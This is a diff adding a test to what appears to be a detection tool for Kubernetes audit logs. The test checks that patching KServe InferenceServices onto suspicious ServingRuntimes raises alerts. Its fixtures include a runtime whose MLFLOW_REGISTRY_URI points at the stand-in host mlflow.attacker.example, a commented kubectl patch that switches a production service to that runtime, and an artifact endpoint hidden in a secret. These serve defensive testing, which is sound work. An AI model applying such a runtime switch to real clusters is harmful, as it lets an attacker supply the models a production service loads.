@@ -135,6 +135,40 @@ describe('a Request-level patch of an InferenceService', () => {
     ]);
   });
 
+  it('a runtime switch of an object never seen is judged by the runtime it names where that runtime is known (details.patch_base_unknown); an unknown or clean runtime raises nothing', async () => {
+    const { h, send } = await start({ artifact_endpoints: ['minio.minio.svc:9000'] });
+    const runtime = (name: string, env: unknown[]) => ({
+      ...record('create', name, '2026-11-20T09:00:00Z', {
+        apiVersion: 'serving.kserve.io/v1alpha1', kind: 'ServingRuntime', metadata: { name, namespace: 'prod' },
+        spec: { supportedModelFormats: [{ name: 'mlflow', version: '2' }], containers: [{ name: 'kserve-container', image: 'docker.io/seldonio/mlserver:1.6.1', env }] },
+      }),
+      requestURI: '/apis/serving.kserve.io/v1alpha1/namespaces/prod/servingruntimes',
+      objectRef: { resource: 'servingruntimes', namespace: 'prod', name, apiGroup: 'serving.kserve.io', apiVersion: 'v1alpha1' },
+    });
+    await send(TOKEN,
+      runtime('mlflow-evil', [{ name: 'MLFLOW_REGISTRY_URI', value: 'https://mlflow.attacker.example' }]),
+      runtime('hidden-s3', [TRACKING, { name: 'AWS_ENDPOINT_URL', valueFrom: { secretKeyRef: { name: 's3', key: 'endpoint' } } }]),
+      runtime('clean', [TRACKING, { name: 'MLFLOW_S3_ENDPOINT_URL', value: 'http://minio.minio.svc:9000' }]),
+      // kubectl patch isvc fraud --type=merge -p '{"spec":{"predictor":{"model":{"runtime":"mlflow-evil"}}}}', no object of fraud seen.
+      record('patch', 'fraud', '2026-11-20T11:00:00Z', { spec: { predictor: { model: { runtime: 'mlflow-evil' } } } }),
+      record('patch', 'churn', '2026-11-20T11:00:01Z', [{ op: 'replace', path: '/spec/predictor/model/runtime', value: 'hidden-s3' }]),
+      record('patch', 'quiet', '2026-11-20T11:00:02Z', { spec: { predictor: { model: { runtime: 'clean' } } } }),
+      record('patch', 'unknown', '2026-11-20T11:00:03Z', { spec: { predictor: { model: { runtime: 'never-seen' } } } }),
+    );
+    const kube = h.events();
+    expect(kube.slice(3).map((e) => [e.resource?.name, e.details?.serving_runtime, e.details?.patch_base_unknown])).toEqual([
+      ['fraud', 'mlflow-evil', true], ['churn', 'hidden-s3', true], ['quiet', 'clean', true], ['unknown', 'never-seen', true],
+    ]);
+    const alerts = replayEvents([...fraud(), ...kube], { rules: RulesConfig.parse({}) }).alerts.filter((a) => /unapproved_deployment|model_source_unverifiable/.test(a.rule_id));
+    expect(alerts.map((a) => [a.rule_id, a.entity.id, a.severity, a.details?.reason ?? a.details?.reasons, a.details?.patch_base_unknown, a.details?.serving_runtime])).toEqual([
+      ['registry.unapproved_deployment', 'prod/fraud', 'critical', 'unwatched_registry', true, 'prod/mlflow-evil'],
+      ['serving.model_source_unverifiable', 'prod/churn', 'medium', ['artifact_endpoint_unverifiable'], true, 'prod/hidden-s3'],
+    ]);
+    expect(alerts[0]!.details).toMatchObject({ mlflow_registry_uri: 'https://mlflow.attacker.example', runtime_registry_uri: 'https://mlflow.attacker.example' });
+    expect(alerts[0]!.summary).toContain('through serving runtime prod/mlflow-evil');
+    expect(alerts[1]!.details?.runtime_artifact_env_unverifiable).toEqual(['AWS_ENDPOINT_URL']);
+  });
+
   it('a record delivered again (a retried batch) is applied once', async () => {
     const { h, send } = await start();
     const add = record('patch', 'fraud', '2026-11-20T11:00:00Z', [{ op: 'add', path: '/spec/predictor/model/env/0', value: { name: 'MLFLOW_REGISTRY_URI', value: 'https://mlflow.attacker.example' } }]);
